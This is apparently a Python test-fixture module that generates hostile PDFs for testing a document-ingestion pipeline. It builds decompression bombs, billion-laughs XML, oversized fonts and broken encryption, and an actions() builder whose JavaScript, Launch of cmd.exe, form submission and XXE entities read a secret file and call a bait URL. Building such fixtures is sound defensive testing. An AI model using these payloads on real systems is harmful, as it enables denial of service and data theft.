"""Hostile PDFs: a kilobyte that unpacks to a gigabyte, trees without leaves, tables that lie."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Callable, Mapping

from tests.faults.hostile_bait import Bait
from tests.ingest.made_pdf import HELVETICA, built, drawn, pdf, stream

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
LINES = [
    (50.0, 700 - 14 * n, 11.0, text)
    for n, text in enumerate(
        ("Wali kota meresmikan jembatan baru di atas sungai itu.", "Warga senang sekali.")
    )
]
FLATE = b"/Filter/FlateDecode"

Bytes = Callable[[], bytes]


def flated(size: int) -> bytes:
    """`size` zero bytes (whole megabytes) as zlib packs them, made without having them."""
    packer = zlib.compressobj(9, wbits=-15)
    packer.compress(bytes(1 << 20))
    packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = size % 65_521 << 16 | 1  # Adler-32 of zeros
    return b"\x78\xda" + piece * (size >> 20) + b"\x03\x00" + checksum.to_bytes(4, "big")


def good() -> bytes:
    """A PDF with nothing wrong in it."""
    return pdf([LINES])


def content(
    data: bytes, *, filters: bytes = b"", resources: bytes = b"", extra: bytes = b"null"
) -> Bytes:
    """A page with this content; `extra` is object 6."""
    return lambda: pdf([data], filters=filters, resources=resources, extra=extra)


def packed(data: bytes) -> Bytes:
    """A page whose content is packed once."""
    return lambda: pdf([zlib.compress(data, 9)], filters=FLATE)


def gigabyte() -> bytes:
    """A page whose content is a gigabyte, in less than a megabyte."""
    return pdf([flated(1 << 30)], filters=FLATE)


def gigabyte_in_kilobytes() -> bytes:
    """The same packed three times, in a few kilobytes."""
    data = zlib.compress(zlib.compress(flated(1 << 30), 9), 9)
    return pdf([data], filters=b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")


def many_bombs() -> bytes:
    """Two pages with a bomb each that is below the limit of one stream."""
    return pdf([flated(20 << 20)] * 2, filters=FLATE)


def font(body: bytes, *, extra: bytes = b"null", shown: bytes = b"<0102030405060708>") -> Bytes:
    """A page in this font; `extra` is object 6."""
    text = b"BT /F1 10 Tf 50 700 Td %s Tj ET" % shown
    return lambda: pdf([text], font=body, extra=extra)


def mapped(cmap: bytes, *, entries: bytes = b"") -> Bytes:
    """A page in a font that tells its letters by this map."""
    body = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R>>"
    return font(body, extra=stream(cmap, entries=entries))


def actions(bait: Bait) -> bytes:
    """Every action that would run a script, open an address or start a program."""
    url, secret = bait.url.encode(), bait.secret.encode()
    acts = [
        b"<</S/JavaScript/JS(app.launchURL\\('%s/js'\\))>>" % url,
        b"<</S/URI/URI(%s/uri)>>" % url,
        b"<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>>>" % url,
        b"<</S/ImportData/F(%s)>>" % secret,
        b"<</S/Launch/F(%s)/Win<</F(cmd.exe)>>>>" % secret,
        b"<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\a)/D[0/Fit]>>",
    ]
    annots = b"".join(b"<</Subtype/Link/Rect[0 0 600 800]/A %s>>" % act for act in acts)
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Annots[%s]/AA<</O %s>>"
        b"/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>>>" % (annots, acts[0])
    )
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>/Metadata 7 0 R/Names<</JavaScript"
        b"<</Names[(a) %s]>>>>/AcroForm<</XFA 7 0 R>>>>" % (acts[1], acts[0], acts[0])
    )
    outside = b"/Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F(%s/stream)>>" % url
    xmp = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file://%s"><!ENTITY u SYSTEM "%s/xmp">]><x>&f;&u;</x>'
    return built(
        [
            catalog,
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            page,
            stream(drawn(LINES) + b"/X Do"),
            HELVETICA,
            stream(b"", entries=outside),
            stream(xmp % (secret, url), entries=b"/Type/Metadata/Subtype/XML"),
        ]
    )


def described(xmp: str) -> Bytes:
    """A good page with this packet of metadata."""
    return lambda: pdf([LINES], xmp=xmp)


def laughs() -> bytes:
    """Metadata with a billion words in it."""
    names = ['<!ENTITY a0 "ha">']
    names += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return pdf([LINES], xmp=f"<!DOCTYPE x [{''.join(names)}]><x>&a9;</x>")


def locked(password: str) -> Bytes:
    """A good PDF under a password; the empty one only forbids printing."""

    def make() -> bytes:
        from pypdf import PdfReader, PdfWriter
        from pypdf.generic import ArrayObject, ByteStringObject

        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good())))
        same = ArrayObject([ByteStringObject(b"0123456789abcdef")] * 2)
        writer._ID = same  # where pypdf would put chance
        writer.encrypt(password, "pemilik", algorithm="RC4-128")
        writer._ID = same
        written = io.BytesIO()
        writer.write(written)
        return written.getvalue()

    return make


def encrypted(entries: bytes) -> Bytes:
    """A PDF that says it is encrypted, in a way that makes no sense."""
    return lambda: built(
        [CATALOG, b"<</Type/Pages/Count 0/Kids[]>>"],
        trailer=b"/Encrypt<<%s>>/ID[<00><00>]" % entries,
    )


def scanned() -> bytes:
    """A picture on each page, and no letter."""
    picture = stream(bytes(81), entries=b"/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray")
    return pdf([b"/P Do"] * 3, resources=b"/XObject<</P 6 0 R>>", extra=picture)


def boxed(box: bytes) -> Bytes:
    """A good page of this size."""
    return lambda: good().replace(b"/MediaBox[0 0 600 800]", b"/MediaBox[%s]" % box)


def cut(share: float) -> Bytes:
    """A good PDF that ends too soon."""
    return lambda: good()[: int(len(good()) * share)]


def swapped(old: bytes, new: bytes) -> Bytes:
    """A good PDF with these bytes in the place of others."""
    return lambda: good().replace(old, new)


def noise() -> bytes:
    """Bytes that mean nothing, with the words of a PDF strewn over them."""
    rng = random.Random(5)
    words = (b" obj ", b"stream\n", b"endstream", b"<<", b">>", b"[", b"xref\n", b"%PDF-", b"/Kids")
    parts = (rng.choice((rng.choice(words), rng.randbytes(9))) for _ in range(60_000))
    return b"%PDF-1.7\n" + b"".join(parts)


_FLAT = b"/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts"
PDFS: Mapping[str, Bytes] = {
    # Bombs
    "pdf-gigabyte.pdf": gigabyte,
    "pdf-gigabyte-in-kilobytes.pdf": gigabyte_in_kilobytes,
    "pdf-many-bombs.pdf": many_bombs,
    "pdf-filters.pdf": content(b"41>" * 9, filters=b"/Filter[" + b"/ASCIIHexDecode" * 500 + b"]"),
    "pdf-lengths.pdf": content(b"\x80" * 3_000_000, filters=b"/Filter/LZWDecode"),
    "pdf-runs.pdf": content(b"\x81a" * 4_000_000, filters=b"/Filter/RunLengthDecode"),
    "pdf-predictor.pdf": content(
        zlib.compress(bytes(6_000_000)),
        filters=FLATE + b"/DecodeParms<</Predictor 15/Columns 1>>",
    ),
    "pdf-columns.pdf": content(
        zlib.compress(bytes(900)),
        filters=FLATE + b"/DecodeParms<</Predictor 12/Columns 2147483647>>",
    ),
    "pdf-two-million-operators.pdf": packed(b"q Q " * 1_000_000),
    "pdf-letter-by-letter.pdf": packed(b"BT /F1 9 Tf " + b"(a) Tj " * 60_000 + b"ET"),
    "pdf-moves.pdf": packed(b"BT /F1 9 Tf " + b"1 1 Td (a) Tj " * 20_000 + b"ET"),
    "pdf-one-string.pdf": packed(b"BT /F1 9 Tf (" + b"kata " * 410_000 + b") Tj ET"),
    "pdf-open-string.pdf": content(b"BT /F1 9 Tf " + b"(" * 1_000_000),
    "pdf-numbers.pdf": packed(b"[" + b"1 " * 3_000_000 + b"] TJ"),
    "pdf-inline-picture.pdf": packed(b"BI /W 9 /H 9 ID " + b"EI\x01" * 800_000),
    "pdf-letters-of-endless-size.pdf": content(
        b"BT /F1 1e308 Tf 1e308 0 0 1e308 1e308 1e308 Tm (a) Tj ET"
    ),
    # Fonts
    "pdf-font-wide-range.pdf": mapped(b"1 beginbfrange <0000> <FFFFFFFF> <0000> endbfrange"),
    "pdf-font-ranges.pdf": mapped(
        b"9 beginbfrange " + b"<0000> <FFFF> <0000> " * 300 + b"endbfrange"
    ),
    "pdf-font-open-range.pdf": mapped(b"1 beginbfrange <00> <09> [" + b"<0041> " * 300_000),
    "pdf-font-letters.pdf": mapped(b"1 beginbfchar <01> <" + b"0041" * 1_000_000 + b"> endbfchar"),
    "pdf-font-own-map.pdf": mapped(b"/A usecmap", entries=b"/UseCMap 6 0 R"),
    "pdf-font-own-descendant.pdf": font(b"<</Type/Font/Subtype" + _FLAT + b"[3 0 R]>>"),
    "pdf-font-widths.pdf": font(
        b"<</Type/Font/Subtype" + _FLAT + b"[6 0 R]>>",
        extra=b"<</Type/Font/Subtype/CIDFontType2/W[0 2000000000 5]/DW 1>>",
    ),
    "pdf-font-differences.pdf": font(
        HELVETICA.replace(b"/WinAnsiEncoding", b"<</Differences[" + b"0/A" * 700_000 + b"]>>"),
    ),
    "pdf-font-chars.pdf": font(
        HELVETICA.replace(b"/Enc", b"/FirstChar -9/LastChar 999999999/Widths[1]/Enc")
    ),
    "pdf-font-of-another-kind.pdf": font(b"[/Font 1 (a) true]"),
    # Passwords, pictures, lies
    "pdf-owner-password.pdf": locked(""),
    "pdf-password.pdf": locked("rahasia"),
    "pdf-encryption.pdf": encrypted(b"/Filter/Standard/V 4/R 4/O(a)/U(b)/P -1/Length 999999999"),
    "pdf-encryption-rounds.pdf": encrypted(
        b"/Filter/Standard/V 5/R 6/O(%b)/U(%b)/OE(%b)/UE(%b)/Perms(%b)/P -1"
        % (b"a" * 48, b"b" * 48, b"c" * 32, b"d" * 32, b"e" * 16)
    ),
    "pdf-encryption-kind.pdf": encrypted(b"/Filter/Other/V 99/CF<</StdCF<</CFM/AESV9>>>>"),
    "pdf-scanned.pdf": scanned,
    "pdf-box.pdf": boxed(b"0 0 99999999999 99999999999"),
    "pdf-box-nan.pdf": boxed(b"(a) null 3 0 R"),
    "pdf-cut.pdf": cut(0.6),
    "pdf-cut-end.pdf": cut(0.97),
    "pdf-head-only.pdf": lambda: b"%PDF-1.7\n",
    "pdf-program.pdf": lambda: b"MZ\x90\0\x03" + bytes(55) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0",
    "pdf-page.pdf": lambda: b"<html><body><p>Berita pagi ini.</p></body></html>",
    "pdf-random.pdf": lambda: b"%PDF-1.7\n" + random.Random(0).randbytes(300_000),
    "pdf-noise.pdf": noise,
    "pdf-text.txt": good,
    # What is told of the article
    "pdf-xmp-laughs.pdf": laughs,
    "pdf-xmp-deep.pdf": described("<a>" * 200_000),
    "pdf-info-loop.pdf": lambda: pdf([LINES], info=b"/Title 6 0 R/Author 4 0 R", extra=b"6 0 R"),
    "pdf-info-dates.pdf": lambda: pdf(
        [LINES], info=b"/CreationDate(D:%s)/ModDate[1]" % (b"9" * 99_999)
    ),
    "pdf-info-title.pdf": lambda: pdf(
        [LINES], info=b"/Title(%s)" % (b"\x1b]0;a\x07 Judul " * 50_000)
    ),
}
CALLING_PDFS: Mapping[str, Callable[[Bait], bytes]] = {"pdf-actions.pdf": actions}
